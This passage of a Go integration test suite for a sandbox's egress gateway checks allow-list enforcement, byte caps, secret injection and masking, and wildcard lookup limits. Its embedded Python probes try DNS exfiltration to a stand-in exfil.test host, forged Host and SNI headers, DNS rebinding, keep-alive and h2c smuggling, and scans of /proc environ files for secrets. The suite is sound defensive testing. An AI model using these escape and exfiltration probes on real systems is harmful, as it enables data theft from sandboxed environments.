//go:build integration

package conformance

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/containerd/errdefs"
	"golang.org/x/sys/unix"

	"github.com/sandboxd/sandboxd/internal/testutil"
	"github.com/sandboxd/sandboxd/limits"
	"github.com/sandboxd/sandboxd/netpolicy"
	"github.com/sandboxd/sandboxd/netpolicy/gateway"
	"github.com/sandboxd/sandboxd/reproducer"
	"github.com/sandboxd/sandboxd/task"
	"github.com/sandboxd/sandboxd/task/access"
	"github.com/sandboxd/sandboxd/task/run"
	"github.com/sandboxd/sandboxd/task/session"
)

// netSubnets gives each target's gateway a subnet of its own.
var netSubnets atomic.Int32

// netEnv is an engine with an egress gateway, and test hosts: allowed.test
// (allowed by name, on 8080 only), a host allowed by its address, and
// denied.test (a name the gateway knows, allowed by no rule).
type netEnv struct {
	s                     *suite
	svc                   *task.Service
	resolver              *testutil.Resolver
	allowed, cidr, denied *testutil.Host
	udpPackets            *atomic.Int64
	gw                    netip.Addr
	// secret is the operator's secret "openai", for api.test (allowed.test's
	// address, HTTPS on 8443 with a certificate of a test CA); apiSaw is
	// the Authorization header of each request api.test got.
	secret string
	apiSaw *testutil.Buffer
}

func newNetEnv(t *testing.T, target Target) *netEnv {
	t.Helper()
	removeStaleNetEnvs(t)
	e := &netEnv{udpPackets: &atomic.Int64{}}
	e.allowed, e.cidr, e.denied = testutil.NewHost(t), testutil.NewHost(t), testutil.NewHost(t)
	for name, h := range map[string]*testutil.Host{"allowed": e.allowed, "cidr": e.cidr, "denied": e.denied} {
		serveHTTP(t, h, 8080, name)
	}
	// A port allowed.test listens on, that no rule allows.
	serveHTTP(t, e.allowed, 2222, "ssh")
	var udp net.PacketConn
	if err := e.allowed.Do(func() (err error) {
		udp, err = net.ListenPacket("udp", net.JoinHostPort(e.allowed.Addr.String(), "9999"))
		return err
	}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			e.udpPackets.Add(1)
		}
	}()

	ca := testutil.NewTestCA(t, "conformance upstream CA")
	e.apiSaw = &testutil.Buffer{}
	serveAPI(t, e.allowed, ca, e.apiSaw)
	e.secret = "sk-conf-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	secrets, err := netpolicy.ParseSecrets([]byte(`{"secrets": [{"name": "openai", "env": "K", "hosts": ["api.test"], "paths": ["/v1/"],
		"headers": {"Authorization": "Bearer {secret}"}, "program_env": "OPENAI_API_KEY"}]}`), func(string) string { return e.secret })
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	if pemCA, err := os.ReadFile(ca.File); err != nil || !roots.AppendCertsFromPEM(pemCA) {
		t.Fatalf("the test CA: %v", err)
	}

	addr := func(h *testutil.Host) netip.Addr { a, _ := netip.AddrFromSlice(h.Addr.To4()); return a }
	op := netpolicy.DefaultOperator()
	op.Secrets = netpolicy.NewSecrets(secrets)
	op.Hosts = map[string]netip.Addr{"allowed.test": addr(e.allowed), "denied.test": addr(e.denied), "pypi.test": addr(e.allowed), "api.test": addr(e.allowed)}
	op.Policies = map[string][]netpolicy.Rule{"web": {{Host: "allowed.test", Ports: []uint16{8080}}}}
	op.Permitted = []netpolicy.Rule{
		{CIDR: addr(e.cidr).String() + "/32", Ports: []uint16{8080}},
		{Host: "rebind.test", Ports: []uint16{8080}},
		{Host: "pypi.test", Ports: []uint16{8080}},
		{Host: "*.wild.test", Ports: []uint16{8080}},
		{Host: "api.test", Ports: []uint16{8443}},
	}
	// rebind.test is allowed, and resolves to loopback: the gateway must
	// not answer it, nor connect.
	e.resolver = &testutil.Resolver{Names: map[string][]netip.Addr{"rebind.test": {netip.MustParseAddr("127.0.0.1")}}}
	instance := fmt.Sprintf("cnet%d-%d", os.Getpid(), netSubnets.Add(1))
	gw, err := gateway.Start(context.Background(), gateway.Config{
		Instance: instance, RunDir: t.TempDir(), Operator: op, Resolver: e.resolver,
		Subnet: netip.MustParsePrefix(fmt.Sprintf("100.80.%d.0/24", netSubnets.Load())), Log: testutil.Logger(t, 0),
		Secrets: op.Secrets, UpstreamRoots: roots,
	})
	if err != nil {
		t.Fatal(err)
	}
	// Registered before the backend's, so it runs after the backend closed.
	t.Cleanup(func() {
		if err := gw.Close(); err != nil {
			t.Errorf("close the gateway: %v", err)
		}
	})
	e.gw = gw.Addr()
	rt := target.WithEgress(t, gw, instance)
	e.s = &suite{target: Target{Runtime: rt, Backend: target.Backend, OCIRuntime: target.OCIRuntime, Leftovers: target.Leftovers}, warm: true,
		taskOpts: []task.Option{task.WithEgress(gw)}}
	e.svc = e.s.service(t, func(c *task.Config) {
		c.Network = op
		c.EgressPoolSize = 1
	})
	return e
}

// serveHTTP serves on a test host: / answers "hello from NAME", /big sends
// a MiB, /hold waits a while before answering, for concurrent connections.
func serveHTTP(t *testing.T, h *testutil.Host, port int, name string) {
	l := h.Listen(t, port)
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "hello from %s", name) })
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) { w.Write(make([]byte, 1<<20)) })
	serveIndex(t, mux)
	mux.HandleFunc("/slow", func(w http.ResponseWriter, r *http.Request) {
		// A byte every 100 ms for a minute: a connection that stays open.
		// Not ended with the request's context: the gateway closes its
		// side for writing once the one request is sent, which ends it.
		for range 600 {
			if _, err := w.Write([]byte(".")); err != nil {
				return
			}
			w.(http.Flusher).Flush()
			time.Sleep(100 * time.Millisecond)
		}
	})
	mux.HandleFunc("/hold", func(w http.ResponseWriter, r *http.Request) {
		time.Sleep(500 * time.Millisecond)
		fmt.Fprint(w, "held")
	})
	srv := &http.Server{Handler: mux, ReadHeaderTimeout: 10 * time.Second}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
}

// serveAPI serves api.test on h: HTTPS on 8443 with a certificate of ca,
// whose /v1/echo answers with the Authorization header it got, which saw
// records a line of each.
func serveAPI(t *testing.T, h *testutil.Host, ca *testutil.TestCA, saw *testutil.Buffer) {
	certFile, keyFile := ca.Host("api.test")
	cert, err := tls.LoadX509KeyPair(certFile, keyFile)
	if err != nil {
		t.Fatal(err)
	}
	l := tls.NewListener(h.Listen(t, 8443), &tls.Config{Certificates: []tls.Certificate{cert}})
	srv := &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(saw, "%s %s\n", r.URL.Path, r.Header.Get("Authorization"))
		fmt.Fprintf(w, "you sent %s", r.Header.Get("Authorization"))
	})}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
}

// allowList is the request's network: the "web" policy, the CIDR host and
// rebind.test.
func (e *netEnv) allowList() netpolicy.Request {
	return netpolicy.Request{Mode: netpolicy.AllowList, Policy: "web", Rules: []netpolicy.Rule{
		{CIDR: e.cidr.Addr.String() + "/32", Ports: []uint16{8080}},
		{Host: "rebind.test", Ports: []uint16{8080}},
	}}
}

// probes tries every way out of the sandbox and prints a JSON object of
// what each got: "ok:..." or "err:...".
const probes = `
import json, socket, ssl, struct, urllib.request
res = {}
def probe(name, fn):
    try:
        res[name] = "ok:" + str(fn())
    except Exception as e:
        res[name] = "err:" + type(e).__name__ + ":" + str(e)[:160]
def proxied(url):
    return urllib.request.urlopen(url, timeout=10).read().decode()
def exchange(addr, port, data):
    s = socket.create_connection((addr, port), timeout=10)
    s.sendall(data)
    out = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        out += b
    return out.decode(errors="replace").replace("\r\n", "|")
def raw(addr, port, host):
    head, _, body = exchange(addr, port, ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host).encode()).partition("||")
    return head.split("|")[0] + "|" + body
def tls(addr, port, name):
    s = socket.create_connection((addr, port), timeout=10)
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    return ctx.wrap_socket(s, server_hostname=name).version()
def udp(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(5):
        s.sendto(b"leak", (addr, port))
    return "sent"
probe("proxy_allowed", lambda: proxied("http://allowed.test:8080/"))
probe("proxy_denied", lambda: proxied("http://denied.test:8080/"))
probe("proxy_wrong_port", lambda: proxied("http://allowed.test:2222/"))
probe("proxy_rebind", lambda: proxied("http://rebind.test:8080/"))
probe("dns_allowed", lambda: socket.gethostbyname("allowed.test"))
probe("dns_denied", lambda: socket.gethostbyname("denied.test"))
probe("dns_exfil", lambda: socket.gethostbyname("c2VjcmV0.exfil.test"))
probe("dns_rebind", lambda: socket.gethostbyname("rebind.test"))
probe("direct_by_name", lambda: raw("ALLOWED", 8080, "allowed.test"))
probe("direct_by_cidr", lambda: raw("CIDR", 8080, "CIDR"))
probe("direct_denied_ip", lambda: raw("DENIED", 8080, "DENIED"))
probe("forged_host", lambda: raw("DENIED", 8080, "allowed.test"))
probe("forged_sni", lambda: tls("DENIED", 8080, "allowed.test"))
probe("direct_wrong_port", lambda: raw("ALLOWED", 2222, "allowed.test"))
probe("own_address", lambda: raw("HOSTSIDE", 8080, "HOSTSIDE"))
probe("gateway_port", lambda: raw("GATEWAY", 22, "GATEWAY"))
probe("loopback_via_proxy", lambda: proxied("http://127.0.0.1:8080/"))
probe("udp", lambda: udp("ALLOWED", 9999))
def dns_raw(server, name, qtype=1):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, (server, 53))
    r = s.recv(512)
    return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
# A kept-alive connection to an allowed address: the second request, to a
# host no rule allows, must not ride on the first's check (third review).
probe("keepalive", lambda: exchange("ALLOWED", 8080, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: denied.test\r\n\r\n"))
probe("h2c_upgrade", lambda: exchange("ALLOWED", 8080, b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n"))
probe("h2_preface", lambda: exchange("ALLOWED", 8080, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
def own_address():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("GATEWAY", 53))
    return s.getsockname()[0]
# Docker's embedded DNS server, where there is one (docker/runc): it knew
# the names of the network's containers, this one's included (PTR).
probe("docker_dns", lambda: dns_raw("127.0.0.11", "docker.exfil.test"))
probe("docker_ptr", lambda: dns_raw("127.0.0.11", ".".join(reversed(own_address().split("."))) + ".in-addr.arpa", 12))
print(json.dumps(res))
`

func (e *netEnv) probes() string {
	return strings.NewReplacer("ALLOWED", e.allowed.Addr.String(), "CIDR", e.cidr.Addr.String(), "DENIED", e.denied.Addr.String(),
		"HOSTSIDE", e.allowed.HostAddr.String(), "GATEWAY", e.gw.String()).Replace(probes)
}

// networkGroup runs allow-listed tasks against test hosts of the test's
// own, through a gateway of its own. What the program's network stack and
// the backend's link to the gateway do can differ by pair; what the
// gateway decides (caps, an index's files, lookups) cannot.
func networkGroup() grouped {
	return group[*netEnv]{"Network", newNetEnv, []kase[*netEnv]{
		{"AllowListIsEnforced", Both, testAllowListEnforced},
		{"ByteCapStopsTheTransfer", Backend, testByteCap},
		{"TwoHundredConnectionsFromEightTasks", Backend, testManyConnections},
		{"NoneStaysNone", Both, testNoneStaysNone},
		{"SecretsAreAddedNeverSeen", Both, testSecrets},
		{"SessionPolicyChangesWhileItLives", Logic, testSessionNetworkChange},
		{"PipInstallsFromAnAllowedIndexOnly", Logic, testPipInstall},
		{"WildcardLookupsAreCapped", Logic, testWildcardLookups},
	}}
}

func testAllowListEnforced(t *testing.T, e *netEnv) {
	req := python(e.probes(), limits.Limits{Timeout: 90 * time.Second})
	req.Options.Network = e.allowList()
	obs := &observer{}
	res := e.s.run(t, e.svc, req, obs)
	defer e.s.noContainerOfRun(t, res.RunID)
	if res.Status != run.StatusOK {
		t.Fatalf("status = %s (%s)", res.Status, res.Message)
	}
	if res.Start != run.StartWarm {
		t.Errorf("an allow-listed task started %s (%s), want warm", res.Start, res.ColdReason)
	}
	b, entries := readBundle(t, e.svc, res)
	var got map[string]string
	if err := json.Unmarshal(entries["stdout"], &got); err != nil {
		t.Fatalf("stdout %q: %v", entries["stdout"], err)
	}
	for _, c := range []struct{ probe, want string }{
		{"proxy_allowed", "ok:hello from allowed"},
		{"direct_by_name", "ok:HTTP/1.1 200 OK|hello from allowed"},
		{"direct_by_cidr", "ok:HTTP/1.1 200 OK|hello from cidr"},
		{"dns_allowed", "ok:" + e.allowed.Addr.String()},
		{"proxy_denied", "err:HTTPError:HTTP Error 403"},
		{"proxy_wrong_port", "err:HTTPError:HTTP Error 403"},
		{"proxy_rebind", "err:HTTPError:HTTP Error 403"},
		{"loopback_via_proxy", "err:HTTPError:HTTP Error 403"},
		{"dns_denied", "err:gaierror"},
		{"dns_exfil", "err:gaierror"},
		{"dns_rebind", "err:gaierror"},
		{"direct_wrong_port", "err:ConnectionRefusedError"},
		{"gateway_port", "err:ConnectionRefusedError"},
	} {
		if !strings.HasPrefix(got[c.probe], c.want) {
			t.Errorf("%s = %q, want %q...", c.probe, got[c.probe], c.want)
		}
	}
	// Refused, never accepted and closed: plain HTTP gets a 403 from the
	// gateway, anything else a reset.
	for _, probe := range []string{"direct_denied_ip", "forged_host", "own_address", "forged_sni"} {
		v := got[probe]
		if !strings.HasPrefix(v, "ok:HTTP/1.1 403 Forbidden|sandboxd: ") && !strings.HasPrefix(v, "err:Connection") {
			t.Errorf("%s = %q, want a 403 from sandboxd or a reset", probe, v)
		}
	}
	// Docker's embedded DNS server answered the names of the network's
	// containers, every other allow-listed task's: the container's own
	// filter refuses every packet to it (the third review's leak).
	// One request per connection through the transparent proxy, on every
	// backend: the second is never forwarded (Connection: close), h2c is
	// refused, and the HTTP/2 preface is reset.
	if v := got["keepalive"]; !strings.HasPrefix(v, "ok:HTTP/1.1 200 OK|") || !strings.Contains(v, "|Connection: close|") ||
		strings.Count(v, "HTTP/1.1 ") != 1 || strings.Count(v, "hello from") != 1 {
		t.Errorf("keepalive = %q, want the first request answered with Connection: close and nothing more", v)
	}
	if v := got["h2c_upgrade"]; !strings.HasPrefix(v, "ok:HTTP/1.1 403 Forbidden|") || !strings.Contains(v, "h2c") {
		t.Errorf("h2c_upgrade = %q, want a 403 naming h2c", v)
	}
	if v := got["h2_preface"]; strings.Contains(v, "hello from") || strings.Contains(v, "200 OK") {
		t.Errorf("h2_preface = %q, want a reset or a refusal", v)
	}
	for _, probe := range []string{"docker_dns", "docker_ptr"} {
		if v := got[probe]; strings.HasPrefix(v, "ok:") {
			t.Errorf("%s = %q, want no answer from Docker's DNS server", probe, v)
		}
	}
	for _, name := range []string{"c2VjcmV0.exfil.test", "denied.test", "docker.exfil.test"} {
		if e.resolver.WasAsked(name) {
			t.Errorf("the gateway looked up %s, which no rule allows", name)
		}
	}
	time.Sleep(200 * time.Millisecond)
	if n := e.udpPackets.Load(); n != 0 {
		t.Errorf("%d UDP packets reached a test host", n)
	}

	// The result counts, the bundle records the policy and every decision.
	if res.Network == nil || res.Network.Denied == 0 || res.Network.Connections == 0 {
		t.Fatalf("result network = %+v", res.Network)
	}
	q, n := b.Manifest.Reproducible.Request, b.Manifest.Run.Network
	if q.Network != "allowlist" || q.NetworkPolicy != "web" || len(q.NetworkRules) != 2 || q.NetworkCaps == nil {
		t.Errorf("bundle request network = %q %q %v %v", q.Network, q.NetworkPolicy, q.NetworkRules, q.NetworkCaps)
	}
	if n == nil || len(n.Rules) != 3 || n.Connections != res.Network.Connections || n.Denied != res.Network.Denied {
		t.Fatalf("bundle network = %+v, result %+v", n, res.Network)
	}
	// The caller heard each decision as the gateway made it, in the
	// log's order.
	obs.mu.Lock()
	heard := map[int]run.NetworkEvent{}
	for _, ev := range obs.network {
		heard[ev.Index] = ev
	}
	obs.mu.Unlock()
	for i, ev := range n.Events {
		if h, ok := heard[i]; !ok || h.Kind != ev.Kind || h.Name != ev.Name || h.Allowed != ev.Allowed {
			t.Errorf("decision %d %+v: the caller heard %+v", i, ev, h)
		}
	}
	var sawAllowed, sawForged, sawDNS bool
	for _, ev := range n.Events {
		switch {
		case ev.Kind == "connect" && ev.Allowed && ev.Name == "allowed.test" && ev.BytesIn > 0:
			sawAllowed = true
		case ev.Kind == "connect" && !ev.Allowed && ev.Name == "allowed.test" && ev.Addr == e.denied.Addr.String():
			sawForged = true
		case ev.Kind == "dns" && !ev.Allowed && ev.Name == "c2vjcmv0.exfil.test":
			sawDNS = true
		}
	}
	if strings.HasPrefix(got["docker_dns"], "ok:") && !slices.ContainsFunc(n.Events, func(ev netpolicy.Event) bool {
		return ev.Kind == "dns" && !ev.Allowed && ev.Name == "docker.exfil.test"
	}) {
		t.Errorf("Docker's DNS server answered, but the gateway's log has no refused query from it: %+v", n.Events)
	}
	if !sawAllowed || !sawForged || !sawDNS {
		t.Errorf("the log lacks an event (allowed %v, forged %v, refused DNS %v): %+v", sawAllowed, sawForged, sawDNS, n.Events)
	}
}

func testByteCap(t *testing.T, e *netEnv) {
	code := `import urllib.request
try:
    n = len(urllib.request.urlopen("http://allowed.test:8080/big", timeout=10).read())
    print("read", n)
except Exception as e:
    print("cut:", type(e).__name__)
`
	req := python(code, limits.Limits{Timeout: 60 * time.Second})
	req.Options.Network = e.allowList()
	req.Options.Network.Caps = netpolicy.Caps{BytesIn: 64 << 10}
	res := e.s.run(t, e.svc, req, nil)
	defer e.s.noContainerOfRun(t, res.RunID)
	b, entries := readBundle(t, e.svc, res)
	if out := string(entries["stdout"]); out == "read 1048576\n" {
		t.Fatalf("the task read the whole MiB past a cap of 64 KiB")
	}
	n := b.Manifest.Run.Network
	if n == nil || n.BytesIn > 64<<10 {
		t.Fatalf("network = %+v, want at most 64 KiB in", n)
	}
	cut := false
	for _, ev := range n.Events {
		cut = cut || strings.Contains(ev.Reason, "cap")
	}
	if !cut {
		t.Errorf("no event records the cap: %+v", n.Events)
	}
}

func testManyConnections(t *testing.T, e *netEnv) {
	code := `import threading, urllib.request
ok = []
def get():
    ok.append(urllib.request.urlopen("http://allowed.test:8080/hold", timeout=30).read())
ts = [threading.Thread(target=get) for _ in range(25)]
[t.start() for t in ts]
[t.join() for t in ts]
print(sum(1 for b in ok if b == b"held"))
`
	var wg sync.WaitGroup
	results := make([]run.Result, 8)
	outs := make([]*observer, 8)
	for i := range results {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req := python(code, limits.Limits{Timeout: 90 * time.Second, Pids: 256})
			req.Options.Network = e.allowList()
			outs[i] = &observer{}
			ctx, cancel := context.WithTimeout(access.WithCaller(context.Background(), access.Operator), 2*time.Minute)
			defer cancel()
			res, err := e.svc.Run(ctx, req, outs[i])
			if err != nil {
				t.Errorf("run %d: %v", i, err)
			}
			results[i] = res
		}()
	}
	wg.Wait()
	for i, res := range results {
		if got := strings.TrimSpace(string(outs[i].output(run.Stdout))); res.Status != run.StatusOK || got != "25" {
			t.Errorf("task %d: %s (%s), %s of 25 connections", i, res.Status, res.Message, got)
		}
		e.s.noContainerOfRun(t, res.RunID)
	}
}

// testNoneStaysNone runs a task without network on the same daemon: it
// has loopback only, and reaches nothing.
func testNoneStaysNone(t *testing.T, e *netEnv) {
	code := `import socket
try:
    socket.create_connection(("` + e.allowed.Addr.String() + `", 8080), timeout=3)
    print("reached")
except OSError as e:
    print("unreachable:", type(e).__name__)
print(sorted(n for _, n in socket.if_nameindex()))
`
	res := e.s.run(t, e.svc, python(code, limits.Limits{}), nil)
	defer e.s.noContainerOfRun(t, res.RunID)
	_, entries := readBundle(t, e.svc, res)
	if out := string(entries["stdout"]); !strings.HasPrefix(out, "unreachable") || strings.Contains(out, "eth0") {
		t.Errorf("a task without network: %q", out)
	}
}

// pipInstall installs the test's package from its index on pypi.test into
// /workspace and imports it.
const pipInstall = `set -e
python3 -m pip install --quiet --no-cache-dir --disable-pip-version-check --index-url http://pypi.test:8080/simple/ --trusted-host pypi.test --target /workspace/site sbxdemo
PYTHONPATH=/workspace/site python3 -c 'import sbxdemo; print("sbxdemo", sbxdemo.VALUE)'
`

func testPipInstall(t *testing.T, e *netEnv) {
	rn := func(rules []netpolicy.Rule) (run.Result, string) {
		req := run.Request{Command: &run.Command{Shell: pipInstall}, Options: run.Options{
			Image: "sandboxd/python", Limits: limits.Limits{Timeout: 90 * time.Second},
			Network: netpolicy.Request{Mode: netpolicy.AllowList, Policy: "web", Rules: rules}}}
		obs := &observer{}
		res := e.s.run(t, e.svc, req, obs)
		e.s.noContainerOfRun(t, res.RunID)
		return res, string(obs.output(run.Stdout)) + string(obs.output(run.Stderr))
	}
	res, out := rn([]netpolicy.Rule{{Host: "pypi.test", Ports: []uint16{8080}}})
	if res.Status != run.StatusOK || !strings.Contains(out, "sbxdemo 42") {
		t.Fatalf("with pypi.test allowed: %s (%s): %s", res.Status, res.Message, out)
	}
	res, out = rn(nil)
	if res.Status == run.StatusOK || strings.Contains(out, "sbxdemo 42") || res.Network == nil || res.Network.Denied == 0 {
		t.Fatalf("with pypi.test not allowed: %s, network %+v: %s", res.Status, res.Network, out)
	}
}

// testWildcardLookups is the third review's channel: a wildcard rule had
// the gateway resolve any sub-label upstream, so a task could carry data
// out in the names it looked up. A task gets MaxLookups distinct names
// resolved, on every backend; the rest are refused without a look-up.
func testWildcardLookups(t *testing.T, e *netEnv) {
	const lookups = `import socket
ok = refused = 0
for i in range(gateway_max + 40):
    try:
        socket.getaddrinfo("c%d.wild.test" % i, 8080)
        ok += 1
    except socket.gaierror:
        refused += 1
print(ok + refused)
`
	before := e.resolver.Distinct()
	req := python(strings.Replace(lookups, "gateway_max", strconv.Itoa(gateway.MaxLookups), 1), limits.Limits{Timeout: 60 * time.Second})
	req.Options.Network = netpolicy.Request{Mode: netpolicy.AllowList, Policy: "web", Rules: []netpolicy.Rule{{Host: "*.wild.test", Ports: []uint16{8080}}}}
	obs := &observer{}
	res := e.s.run(t, e.svc, req, obs)
	e.s.noContainerOfRun(t, res.RunID)
	if res.Status != run.StatusOK || strings.TrimSpace(string(obs.output(run.Stdout))) != strconv.Itoa(gateway.MaxLookups+40) {
		t.Fatalf("the look-ups: %s (%s) %q %q", res.Status, res.Message, obs.output(run.Stdout), obs.output(run.Stderr))
	}
	if asked := e.resolver.Distinct() - before; asked != gateway.MaxLookups {
		t.Errorf("the gateway resolved %d distinct names for one task, want at most %d", asked, gateway.MaxLookups)
	}
	if res.Network == nil || res.Network.Denied == 0 {
		t.Errorf("the refused look-ups are not in the result: %+v", res.Network)
	}
}

// serveIndex serves a package index of one wheel, built here, the way pip
// reads one (PEP 503): /simple/sbxdemo/ links to the wheel with its hash.
func serveIndex(t *testing.T, mux *http.ServeMux) {
	name := "sbxdemo-1.0-py3-none-any.whl"
	whl := buildWheel(t, map[string]string{"sbxdemo/__init__.py": "VALUE = 42\n"})
	sum := sha256.Sum256(whl)
	mux.HandleFunc("/simple/sbxdemo/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<!DOCTYPE html><html><body><a href="/packages/%s#sha256=%x">%s</a></body></html>`, name, sum, name)
	})
	mux.HandleFunc("/packages/"+name, func(w http.ResponseWriter, r *http.Request) { w.Write(whl) })
}

// buildWheel makes a pure-Python wheel of version 1.0 holding files, with
// the metadata and RECORD pip checks.
func buildWheel(t *testing.T, files map[string]string) []byte {
	info := "sbxdemo-1.0.dist-info/"
	files[info+"METADATA"] = "Metadata-Version: 2.1\nName: sbxdemo\nVersion: 1.0\n"
	files[info+"WHEEL"] = "Wheel-Version: 1.0\nGenerator: sandboxd-conformance\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
	var record strings.Builder
	names := slices.Sorted(maps.Keys(files))
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	add := func(name, content string) {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, content)
	}
	for _, n := range names {
		sum := sha256.Sum256([]byte(files[n]))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", n, base64.RawURLEncoding.EncodeToString(sum[:]), len(files[n]))
		add(n, files[n])
	}
	record.WriteString(info + "RECORD,,\n")
	add(info+"RECORD", record.String())
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// removeStaleNetEnvs removes what the network tests of a test process
// killed with -9 left: its Docker egress networks and its gateways'
// namespaces (their links go with them). Their instance names carry the
// process's pid.
func removeStaleNetEnvs(t *testing.T) {
	stale := regexp.MustCompile(`cnet(\d+)-\d+`)
	dead := func(name string) bool {
		m := stale.FindStringSubmatch(name)
		if m == nil || m[1] == strconv.Itoa(os.Getpid()) {
			return false
		}
		_, err := os.Stat("/proc/" + m[1])
		return err != nil
	}
	if out, err := exec.Command("docker", "network", "ls", "--filter", "label=io.sandboxd.egress", "--format", "{{.Name}}").Output(); err == nil {
		for _, name := range strings.Fields(string(out)) {
			if dead(name) {
				exec.Command("docker", "network", "rm", name).Run()
			}
		}
	}
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(mounts), "\n") {
		fields := strings.Fields(line)
		if len(fields) > 4 && strings.HasSuffix(fields[4], "/netns") && dead(fields[4]) {
			unix.Unmount(fields[4], unix.MNT_DETACH)
		}
	}
}

// secretProbe calls api.test with the placeholder it holds, through the
// proxy and past it, and looks for the secret's prefix wherever a program
// can read: the environment of every process it sees, and the files of
// the folders a secret could be left in.
const secretProbe = `
import glob, http.client, json, os, ssl, urllib.request
res = {"env": os.environ.get("OPENAI_API_KEY", ""), "placeholder": os.environ.get("SANDBOXD_SECRET_OPENAI", "")}
auth = {"Authorization": "Bearer " + res["env"]}
def probe(name, fn):
    try:
        res[name] = "ok:" + fn()
    except Exception as e:
        res[name] = "err:" + type(e).__name__ + ":" + str(e)[:200]
probe("proxied", lambda: urllib.request.urlopen(urllib.request.Request("https://api.test:8443/v1/echo", headers=auth), timeout=20).read().decode())
def direct():
    c = http.client.HTTPSConnection("api.test", 8443, timeout=20, context=ssl.create_default_context())
    c.request("GET", "/v1/echo", headers=auth)
    return c.getresponse().read().decode()
probe("direct", direct)
probe("other_path", lambda: urllib.request.urlopen(urllib.request.Request("https://api.test:8443/admin", headers=auth), timeout=20).read().decode())
found = []
def scan(path):
    try:
        with open(path, "rb") as f:
            if b"sk-conf-" in f.read(4 << 20):
                found.append(path)
    except Exception:
        pass
for p in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    scan(p)
for root in ["/etc", "/run", "/tmp", "/workspace", "/input", "/var", "/root", "/home"]:
    for d, _, files in os.walk(root):
        for f in files:
            scan(os.path.join(d, f))
res["found"] = found
print(json.dumps(res))
`

// testSecrets: the program holds the placeholder; the secret reaches
// api.test on /v1/ requests, through the proxy and past it, and no other
// path; the echo comes back masked; nothing the program can read holds
// it; the result, the bundle and the log name it, never hold it.
func testSecrets(t *testing.T, e *netEnv) {
	req := python(secretProbe, limits.Limits{Timeout: 90 * time.Second})
	req.Options.Network = netpolicy.Request{Mode: netpolicy.AllowList, Rules: []netpolicy.Rule{{Host: "api.test", Ports: []uint16{8443}}}, Secrets: []string{"openai"}}
	obs := &observer{}
	res := e.s.run(t, e.svc, req, obs)
	defer e.s.noContainerOfRun(t, res.RunID)
	if res.Status != run.StatusOK {
		t.Fatalf("status = %s (%s)", res.Status, res.Message)
	}
	b, entries := readBundle(t, e.svc, res)
	var got struct {
		Env, Placeholder, Proxied, Direct string
		OtherPath                         string `json:"other_path"`
		Found                             []string
	}
	if err := json.Unmarshal(entries["stdout"], &got); err != nil {
		t.Fatalf("stdout %q: %v", entries["stdout"], err)
	}
	const placeholder = "SANDBOXD_SECRET_OPENAI"
	masked := "ok:you sent Bearer " + strings.Repeat("*", len(e.secret))
	if got.Env != placeholder || got.Placeholder != placeholder || got.Proxied != masked || got.Direct != masked ||
		got.OtherPath != "ok:you sent Bearer "+placeholder || len(got.Found) != 0 {
		t.Errorf("the program saw %+v", got)
	}
	want := fmt.Sprintf("/v1/echo Bearer %s\n/v1/echo Bearer %s\n/admin Bearer %s\n", e.secret, e.secret, placeholder)
	if saw := e.apiSaw.String(); saw != want {
		t.Errorf("api.test saw %q, want %q", saw, want)
	}
	injected := 0
	for _, ev := range res.Network.Events {
		injected += ev.Injections
		if ev.Injections > 0 && (len(ev.Secrets) != 1 || ev.Secrets[0] != "openai" || ev.Masked != 1) {
			t.Errorf("event %+v", ev)
		}
	}
	if injected != 2 {
		t.Errorf("%d requests recorded as injected, want 2: %+v", injected, res.Network.Events)
	}
	for name, entry := range entries {
		if bytes.Contains(entry, []byte(e.secret)) {
			t.Errorf("the bundle's %s holds the secret", name)
		}
	}
	if q := b.Manifest.Reproducible.Request; len(q.NetworkSecrets) != 1 || q.NetworkSecrets[0] != "openai" {
